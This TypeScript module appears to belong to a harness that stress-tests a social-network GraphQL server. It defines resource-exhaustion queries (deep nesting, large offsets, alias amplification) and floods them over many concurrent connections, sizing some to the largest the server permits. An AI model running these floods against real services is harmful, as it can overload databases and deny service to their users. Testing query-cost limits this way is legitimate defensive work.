import type { Request } from '../../works/speaker.ts'
import { type Attack, graphql, repeat, type Target } from '../attack.ts'
import { flood, largestPermitted } from '../flood.ts'

type Sized = (target: Target, size: number) => string

const skipping: Sized = ({ star }, size) =>
  `{ user(by: { uuid: "${star}" }) { posts(first: 100) { nodes { author { posts(first: ${size}) { nodes { author { followers(first: 1, offset: 1000) { nodes { uuid } } } } } } } } } }`
const skippingFar: Sized = ({ star }, size) =>
  `{ user(by: { uuid: "${star}" }) { ${repeat(size, (index) => `f${index}: followers(first: 1, offset: 9999) { nodes { uuid } }`)} } }`
const nested: Sized = (_target, size) =>
  `{ publicTimeline(first: ${size}) { nodes { uuid author { username posts(first: 50) { nodes { uuid replies(first: 10) { nodes { uuid author { username } } } } } } } } }`
const homes: Sized = (_target, size) =>
  `{ ${repeat(size, (index) => `h${index}: homeTimeline(first: 1) { nodes { uuid } }`)} }`
const nodes: Sized = ({ starId }, size) => `{ ${repeat(size, (index) => `n${index}: node(id: "${starId}") { id }`)} }`
const usersOfNodes: Sized = ({ starId }, size) =>
  `{ ${repeat(size, (index) => `n${index}: node(id: "${starId}") { ... on User { followers(first: 100) { nodes { uuid username } } } }`)} }`

/** As large as is permitted, on so many connections at once. */
function permitted(most: number, connections: number, source: Sized): Attack['prepare'] {
  return async (target) => {
    const request = (size: number): Request => graphql(source(target, size), target.token)
    const size = await largestPermitted(target, most, request)
    return { strike: flood(target, connections, () => request(size)), note: `size ${size}` }
  }
}

/** Of a fixed size, permitted or not. */
function fixed(size: number, connections: number, source: Sized): Attack['prepare'] {
  return (target) => ({ strike: flood(target, connections, () => graphql(source(target, size), target.token)) })
}

/** Attacks that cost the database much. */
export const costlyAttacks: readonly Attack[] = [
  {
    row: '4',
    name: 'skipping',
    about: 'posts(100) → author → posts(98) → author → followers(offset: 1000), ten at once',
    prepare: fixed(98, 10, skipping),
  },
  {
    row: '4',
    name: 'skipping-permitted',
    about: 'the same with as many posts as are permitted, ten at once',
    prepare: permitted(98, 10, skipping),
  },
  {
    row: '4',
    name: 'skipping-far',
    about: 'as many aliases of followers(offset: 9999) as are permitted, ten at once',
    prepare: permitted(50, 10, skippingFar),
  },
  {
    row: '4',
    name: 'nested-permitted',
    about: 'public timeline → author → posts → replies → author, as large as is permitted, ten at once',
    prepare: permitted(100, 10, nested),
  },
  {
    row: '4',
    name: 'home',
    about: 'the home timeline of an account that follows 10,000, on 12 connections',
    prepare: (target) => ({
      strike: flood(target, 12, () => graphql('{ homeTimeline { nodes { uuid content } } }', target.token)),
    }),
  },
  {
    row: '4',
    name: 'light',
    about: 'a light query on 64 connections',
    prepare: (target) => ({ strike: flood(target, 64, () => graphql('{ viewer { uuid } }', target.token)) }),
  },
  { row: '5', name: 'nodes', about: '40 aliases of node(id), ten at once', prepare: fixed(40, 10, nodes) },
  {
    row: '5',
    name: 'nodes-permitted',
    about: 'as many aliases of node(id) with 100 followers as are permitted, ten at once',
    prepare: permitted(40, 10, usersOfNodes),
  },
  {
    row: '9',
    name: 'homes',
    about: '50 aliases of homeTimeline(first: 1), ten at once',
    prepare: fixed(50, 10, homes),
  },
  {
    row: '9',
    name: 'homes-permitted',
    about: 'as many aliases of homeTimeline(first: 1) as are permitted, ten at once',
    prepare: permitted(50, 10, homes),
  },
]
